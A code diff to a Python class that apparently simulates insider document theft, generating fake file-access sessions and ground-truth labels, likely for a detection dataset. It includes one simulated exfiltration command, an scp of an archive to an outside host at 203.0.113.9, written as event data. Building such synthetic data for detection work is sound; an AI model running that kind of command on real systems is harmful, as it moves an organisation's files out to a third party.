@@ -32,9 +32,10 @@ class Thefts:
             self.todo.setdefault(day, []).append((n, p, documents, takes, hour))
 
     def thief(self, unit, via, day, taken):
-        fit = [p for p in self.o.spare[unit] if p.via == via and p.name not in taken and not self.o.absent(p, day)] \
-            or [p for p in self.o.staff if p.via == via and p.name not in taken and not self.o.absent(p, day) and p.unit != 'analytics']
-        return fit[0]
+        here = [p for p in self.o.staff if p.name not in taken and not self.o.absent(p, day) and p.unit != 'analytics']
+        by = [p for p in here if p.via == via]
+        # In a small office whoever is there.
+        return ([p for p in by if p in self.o.spare[unit]] or by or here or self.o.staff)[0]
 
     def what(self, r, n, p, documents):
         """Folder by folder, as somebody takes who knows where things are."""
@@ -50,7 +51,8 @@ class Thefts:
     def session(self, p, n, program):
         self.pid += 17
         client = '10.20.200.14' if n == 5 else getattr(p, 'client', p.addresses[0])
-        return Session(p, '/usr/sbin/smbd' if p.via == SMB else program, self.pid, p.via, client, PARENTS[p.via])
+        via = KINDS[n][2]
+        return Session(p, '/usr/sbin/smbd' if via == SMB else program, self.pid, via, client, PARENTS[via])
 
     def put(self, t, s, verb, path, obj=None, label='', more='', seen='access'):
         self.out.append((t, s, verb, path, obj, label, more, seen))
@@ -85,7 +87,7 @@ class Thefts:
             self.execute(t + 40, out, 'scp old.zip u4711@203.0.113.9:')
             self.put(t + 40.2, out, 'read', archive, obj)
             t += 60
-        self.truth.append({'kind': KINDS[n][0], 'person': p.name, 'via': p.via, 'begin': stamp(begin), 'end': stamp(t), 'documents': times})
+        self.truth.append({'kind': KINDS[n][0], 'person': p.name, 'via': KINDS[n][2], 'begin': stamp(begin), 'end': stamp(t), 'documents': times})
 
     def take(self):
         events, self.out = sorted(self.out, key=lambda e: e[0]), []
